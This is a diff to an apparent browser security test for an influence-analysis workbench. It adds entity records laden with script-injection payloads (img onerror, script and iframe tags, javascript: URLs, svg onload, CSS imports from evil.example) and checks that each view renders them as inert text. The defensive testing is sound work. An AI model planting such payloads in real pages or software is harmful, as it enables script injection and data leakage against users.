@@ -2,9 +2,12 @@
  * Attacker-controlled content: a corpus whose post texts, handles, display names, bios, locations,
  * profile URLs, links and hashtags carry script-injection and remote-loading payloads, read through
  * real ingest and detected as a coordinated cluster (so that the payloads reach every view: the
- * network's labels and tooltip, the evidence, members, account pages, amplification items), and
+ * network's labels and tooltip, the evidence, members, account pages, amplification items),
  * documents whose text, title, author, outlet and URL carry them too, quoting the cluster's
- * payload-laden posts (so that they reach the Echo view, highlighted passages included). Every
+ * payload-laden posts (so that they reach the Echo view, highlighted passages included), and an
+ * influence layer whose entity names, notes, URLs and record fields carry more, linked to that
+ * cluster through one of its accounts and the payload site it pushes (the Influence view, who is
+ * behind it, paths, the report). Every
  * view of the workbench and the report are then opened in Chromium: no payload may run (a global
  * flag the payloads set stays unset, no dialog opens), nothing may be requested from anywhere but
  * the local server, the Content-Security-Policy never has to block anything, and the payloads are
@@ -16,6 +19,9 @@ import type { Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { detect } from '../../src/detect/index.js';
 import { saveDetection } from '../../src/detect/saved.js';
+import { importEntities } from '../../src/entities/import/pipeline.js';
+import { linkLayers } from '../../src/entities/link/index.js';
+import { resolveEntities } from '../../src/entities/resolve/index.js';
 import { fingerprintClusters } from '../../src/forensics/index.js';
 import { ingestDocuments } from '../../src/ingest/documents/index.js';
 import type { IO_ARCHIVE_COLUMNS } from '../../src/ingest/formats/io-archive.js';
@@ -53,6 +59,80 @@ const D = {
   /** Inserted inside a quote, so that it lies in (or between) the aligned passages. */
   inner: `<i onmouseover="window.__pwned='inner'">`,
 };
+
+/** The same for the influence layer: entity names, notes, URLs and the fields of records. */
+const E = {
+  org: `<img src=x onerror="window.__pwned='entity';alert('entity')">Front Org`,
+  notes: `<script>window.__pwned='notes'</script><iframe src="http://evil.example/notes"></iframe>`,
+  website: 'http://evil.example/front.png',
+  sourceUrl: `javascript:window.__pwned='source'`,
+  principal: `"><img src="http://evil.example/principal.png">Principal Council`,
+  agent: `<svg onload="window.__pwned='agent'">Agent Partners</svg>`,
+  role: `<img src=x onerror="window.__pwned='role'">registered agent`,
+  purpose: `<a href="http://evil.example/pay" onclick="window.__pwned='pay'">retainer</a>`,
+  description: `<style>@import url(http://evil.example/e.css)</style>a meeting`,
+  official: `<b onmouseover="window.__pwned='official'">Official Person</b>`,
+};
+
+/** An FtM stream of payload entities; the front organisation runs the account `handle` (a cluster member) and the payload site. */
+function influenceLayer(dir: string, handle: string): string {
+  const lines = [
+    {
+      id: 'pwn-org',
+      schema: 'Organization',
+      properties: { name: [E.org], notes: [E.notes], website: [E.website], sourceUrl: [E.sourceUrl] },
+    },
+    {
+      id: 'pwn-account',
+      schema: 'UserAccount',
+      properties: { username: [handle], service: ['twitter'], owner: ['pwn-org'] },
+    },
+    { id: 'pwn-principal', schema: 'Organization', properties: { name: [E.principal], country: ['ir'] } },
+    { id: 'pwn-agent', schema: 'Company', properties: { name: [E.agent] } },
+    {
+      id: 'pwn-official',
+      schema: 'Person',
+      properties: { name: [E.official], position: ['Representative'] },
+    },
+    {
+      id: 'pwn-rep',
+      schema: 'Representation',
+      properties: {
+        agent: ['pwn-agent'],
+        client: ['pwn-principal'],
+        role: [E.role],
+        startDate: ['2024-05-01'],
+      },
+    },
+    {
+      id: 'pwn-pay',
+      schema: 'Payment',
+      properties: {
+        payer: ['pwn-principal'],
+        beneficiary: ['pwn-org'],
+        amount: ['1000'],
+        currency: ['USD'],
+        date: ['2024-05-02'],
+        purpose: [E.purpose],
+      },
+    },
+    {
+      id: 'pwn-meet',
+      schema: 'Event',
+      properties: {
+        name: ['meeting'],
+        organizer: ['pwn-agent'],
+        involved: ['pwn-official', 'pwn-principal'],
+        date: ['2024-06-01'],
+        description: [E.description],
+        keywords: ['meeting'],
+      },
+    },
+  ];
+  const file = join(dir, 'payloads.ftm.json');
+  writeFileSync(file, `${lines.map((l) => JSON.stringify(l)).join('\n')}\n`);
+  return file;
+}
 
 const quote = (v: string) => (/[",\n\r]/.test(v) ? `"${v.replaceAll('"', '""')}"` : v);
 const pyString = (s: string) => `'${s.replaceAll("'", "\\'")}'`;
@@ -159,6 +239,13 @@ beforeAll(async () => {
   await saveDetection(store, await fingerprintClusters(store, await detect(store)));
   const docs = await ingestDocuments(store, await documents(tmp.dir, store));
   expect(docs.rowsRejected).toBe(0);
+  const handle = (await store.value<string>(
+    `SELECT handle FROM accounts WHERE handle LIKE 'op0\\_%' ESCAPE '\\'`,
+  ))!;
+  const entities = await importEntities(store, influenceLayer(tmp.dir, handle), { dataset: 'payloads' });
+  expect(entities.recordsRejected).toBe(0);
+  await resolveEntities(store);
+  await linkLayers(store);
   server = await startServer({ store, port: 0, webRoot: WEB_ROOT });
   browser = await openBrowser();
   ({ page, errors, dialogs } = await watchedPage(browser.context));
@@ -253,6 +340,49 @@ describe('script injection through the data', () => {
     await expectInert();
   });
 
+  it('Influence: entity names, notes, URLs and record fields are text in every page, and run and load nothing', async () => {
+    const noLinksOut = async () => {
+      const hrefs = await page.locator('a[href]').evaluateAll((as) => as.map((a) => a.getAttribute('href')!));
+      expect(hrefs.filter((h) => !h.startsWith('#/'))).toEqual([]);
+      expect(
+        await page
+          .locator('img, iframe, script:not([src]), object, embed, link[rel=stylesheet]:not([href^="/"])')
+          .count(),
+      ).toBe(0);
+    };
+    await page.goto(`${server.origin}/#/influence`);
+    await page.fill('.entity-search input', 'Front Org');
+    await page.waitForSelector('.entity-search table a');
+    expect(await text()).toContain(E.org);
+    await page.goto(`${server.origin}/#/influence/entity/pwn-org`);
+    await page.waitForSelector('[data-testid=layered] svg');
+    await page.waitForSelector('table.payments');
+    const org = await text();
+    for (const p of [E.org, E.notes, E.website, E.sourceUrl, E.principal, E.purpose])
+      expect(org).toContain(p);
+    await noLinksOut();
+    await expectInert();
+    await page.goto(`${server.origin}/#/influence/entity/pwn-agent`);
+    await page.waitForSelector('table.contacts');
+    const agent = await text();
+    for (const p of [E.agent, E.role, E.description, E.official]) expect(agent).toContain(p);
+    await noLinksOut();
+    await expectInert();
+    // Who is behind the payload cluster: reached through the account the front organisation runs.
+    await page.goto(`${server.origin}/#/influence/cluster/${cluster}`);
+    await page.waitForSelector('.party');
+    const behind = await text();
+    for (const p of [E.org, E.principal]) expect(behind).toContain(p);
+    expect(behind).toContain(E.website);
+    await noLinksOut();
+    await expectInert();
+    await page.goto(`${server.origin}/#/influence?from=${cluster}&to=pwn-official&hops=6`);
+    await page.waitForSelector('.path-results .path');
+    expect(await text()).toContain(E.official);
+    await noLinksOut();
+    await expectInert();
+  });
+
   it('the Echo view shows documents and passages carrying payloads as text, and runs and loads none', async () => {
     await page.goto(`${server.origin}/#/echo`);
     await page.waitForSelector('table.echo-points tbody tr', { timeout: 120_000 });
@@ -339,6 +469,9 @@ describe('script injection through the data', () => {
     expect(html).toContain('id="echoes"');
     for (const p of [D.text, D.title, D.author, D.outlet]) expect(shown).toContain(p);
     expect(await report.locator('#echoes mark').count()).toBeGreaterThan(0);
+    // "Who is behind it": the payload entities and a record's role.
+    expect(html).toContain('id="behind"');
+    for (const p of [E.org, E.principal, E.role]) expect(shown).toContain(p);
     expect(await report.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();
     expect(
       await report.evaluate(() => (window as unknown as { __violations: string[] }).__violations),
